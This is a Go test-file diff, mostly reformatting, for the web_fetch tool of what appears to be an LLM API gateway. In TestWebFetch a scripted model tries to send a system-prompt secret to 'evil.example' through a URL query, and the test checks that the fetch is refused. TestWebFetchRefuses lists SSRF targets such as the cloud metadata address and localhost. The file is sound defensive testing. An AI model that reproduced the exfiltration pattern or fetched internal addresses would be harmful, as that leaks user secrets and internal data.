@@ -34,13 +34,15 @@ type web struct {
 // webOf returns a deployment for a test, with the web.
 func webOf(t *testing.T, protocol string) *web {
 	t.Helper()
-	w := &web{deployTo(t, protocol, map[string]string{"OPTIONS": `{"web_fetch":{"max_uses":4}}`}), protocol, map[string]upstream{}}
+	w := &web{deployTo(t, protocol, map[string]string{"OPTIONS": `{"web_fetch":{"max_uses":4}}`}), protocol,
+		map[string]upstream{}}
 	for _, host := range []string{"docs.example", "www.example", "other.example", "evil.example"} {
 		w.upstreams[host] = func(r *sent) *reply {
 			if page := w.pages[r.URL.Host+r.URL.Path]; page != nil {
 				return page(r)
 			}
-			return &reply{status: 404, header: map[string]string{"Content-Type": "text/html"}, chunks: []string{"no such page"}}
+			return &reply{status: 404, header: map[string]string{"Content-Type": "text/html"},
+				chunks: []string{"no such page"}}
 		}
 	}
 	return w
@@ -49,7 +51,8 @@ func webOf(t *testing.T, protocol string) *web {
 // page serves a webpage.
 func page(html string) upstream {
 	return func(*sent) *reply {
-		return &reply{status: 200, header: map[string]string{"Content-Type": "text/html; charset=utf-8"}, chunks: []string{html}}
+		return &reply{status: 200, header: map[string]string{"Content-Type": "text/html; charset=utf-8"},
+			chunks: []string{html}}
 	}
 }
 
@@ -87,7 +90,7 @@ func (w *web) read(t *testing.T, stream bool, more string) *answer {
 	t.Helper()
 	a := w.ask("POST", "/v1/messages", streamed(with(fetching, more), stream))
 	require.Equal(t, 200, a.Code, a.text())
-	textOf(t, "anthropic", a)
+	answerText(t, "anthropic", a)
 	return a
 }
 
@@ -101,7 +104,8 @@ func (w *web) fetches() (all []sent) {
 	return all
 }
 
-// codes has the model fetch webpages in one turn, and returns the error of each, "" for one that is read.
+// codes has the model fetch webpages in one turn, and returns the error of each, "" for one that is
+// read.
 func (w *web) codes(t *testing.T, more string, urls ...string) (all []string) {
 	t.Helper()
 	w.play(fetch("", urls...), round("Done."))
@@ -115,7 +119,7 @@ func (w *web) codes(t *testing.T, more string, urls ...string) (all []string) {
 
 // onEachUpstream runs a test of the web for upstreams of each protocol.
 func onEachUpstream(t *testing.T, run func(t *testing.T, w *web)) {
-	for _, protocol := range protocols {
+	for _, protocol := range clientProtocols {
 		t.Run(protocol, func(t *testing.T) {
 			t.Parallel()
 			synctest.Test(t, func(t *testing.T) { run(t, webOf(t, protocol)) })
@@ -131,14 +135,16 @@ func TestWebFetch(t *testing.T) {
 		for _, stream := range []bool{false, true} {
 			w.play(fetch("I read.", guideURL), round("It [says]("+guideURL+") much."))
 			text := w.read(t, stream, "").text()
-			assert.Regexp(t, `"type":"server_tool_use","id":"srvtoolu_el1_run_1_\w+","name":"web_fetch"`, text)
+			assert.Regexp(t, `"type":"server_tool_use","id":"srvtoolu_el1_run_1_\w+","name":"web_fetch"`,
+				text)
 			assert.Regexp(t, `"type":"web_fetch_tool_result","tool_use_id":"srvtoolu_el1_run_1_\w+","content":\{"type":"web_fetch_result","url":"https://docs.example/guide","retrieved_at":"20\d\d-`, text)
 			assert.Contains(t, text, `"title":"Guide","citations":null`)
 			assert.Contains(t, text, `"web_fetch_requests":1`)
 			assert.Contains(t, text, `"cited_text":`)
 			require.Len(t, w.fetches(), 1)
 			assert.Equal(t, "GET", w.fetches()[0].Method)
-			for _, name := range []string{"Authorization", "X-Api-Key", "Cookie", "Anthropic-Version", "Referer"} {
+			for _, name := range []string{"Authorization", "X-Api-Key", "Cookie", "Anthropic-Version",
+				"Referer"} {
 				assert.NotContains(t, w.fetches()[0].Header, name)
 			}
 			next := w.askedAt("up.test")[1].body
@@ -148,7 +154,8 @@ func TestWebFetch(t *testing.T) {
 			assert.Contains(t, next, "[next](https://docs.example/next)")
 			assert.Equal(t, int64(1), w.report("fetches").Int())
 
-			w.play(fetch("", guideURL), fetch("", "https://evil.example/?k="+secret, "https://docs.example/next?k="+secret, "https://evil.example/x"), round("Done."))
+			w.play(fetch("", guideURL), fetch("", "https://evil.example/?k="+secret,
+				"https://docs.example/next?k="+secret, "https://evil.example/x"), round("Done."))
 			text = w.read(t, stream, `{"system":"The secret is `+secret+`."}`).text()
 			assert.Equal(t, 3, strings.Count(text, `"error_code":"url_not_in_prior_context"`), text)
 			require.Len(t, w.fetches(), 1)
@@ -167,7 +174,8 @@ func TestWebFetchLinks(t *testing.T) {
 		w.play(fetch("", guideURL), fetch("", "https://docs.example/next"), round("So far."))
 		content := w.read(t, false, "").get("content").Value()
 		w.play(fetch("", "https://docs.example/third"), round("Done."))
-		messages := list{object{"role": "user", "content": "Read " + guideURL + " and tell me."}, object{"role": "assistant", "content": content}, object{"role": "user", "content": "Go on."}}
+		messages := list{object{"role": "user", "content": "Read " + guideURL + " and tell me."},
+			object{"role": "assistant", "content": content}, object{"role": "user", "content": "Go on."}}
 		assert.Contains(t, w.read(t, true, encoded(object{"messages": messages})).text(), `"data":"The end."`)
 		first := w.askedAt("up.test")[0].body
 		assert.Contains(t, first, "third](https://docs.example/third)")
@@ -210,12 +218,16 @@ func TestWebFetchRedirects(t *testing.T) {
 	})
 }
 
-// TestWebFetchRefuses has what is no webpage of the public web, and what an option or the size of a webpage forbids.
+// TestWebFetchRefuses has what is no webpage of the public web, and what an option or the size of a
+// webpage forbids.
 func TestWebFetchRefuses(t *testing.T) {
 	t.Parallel()
 	onEachUpstream(t, func(t *testing.T, w *web) {
-		private := []string{"https://127.0.0.1/", "https://169.254.169.254/", "https://[::1]/", "https://localhost/", "https://intranet/", "https://docs.example:8443/", "https://10.0.0.1/", "https://printer.local/"}
-		named := encoded(object{"messages": list{object{"role": "user", "content": strings.Join(private, " ")}}})
+		private := []string{"https://127.0.0.1/", "https://169.254.169.254/", "https://[::1]/",
+			"https://localhost/", "https://intranet/", "https://docs.example:8443/", "https://10.0.0.1/",
+			"https://printer.local/"}
+		named := encoded(object{"messages": list{object{"role": "user",
+			"content": strings.Join(private, " ")}}})
 		refused := []string{"url_not_allowed", "url_not_allowed", "url_not_allowed", "url_not_allowed"}
 		assert.Equal(t, refused, w.codes(t, named, private[:4]...))
 		assert.Empty(t, w.fetches())
@@ -231,8 +243,10 @@ func TestWebFetchRefuses(t *testing.T) {
 		data := w.read(t, false, tools(`{"max_content_tokens":50}`)).get("content.1.content.content.source.data").Str
 		assert.Less(t, len(data), 300)
 		assert.Contains(t, data, "The page goes on")
-		assert.Equal(t, []string{"url_not_allowed"}, w.codes(t, tools(`{"allowed_domains":["other.example"]}`), guideURL))
-		assert.Equal(t, []string{"url_not_allowed"}, w.codes(t, tools(`{"blocked_domains":["docs.example"]}`), guideURL))
+		assert.Equal(t, []string{"url_not_allowed"},
+			w.codes(t, tools(`{"allowed_domains":["other.example"]}`), guideURL))
+		assert.Equal(t, []string{"url_not_allowed"},
+			w.codes(t, tools(`{"blocked_domains":["docs.example"]}`), guideURL))
 		for _, test := range []struct {
 			page upstream
 			code string
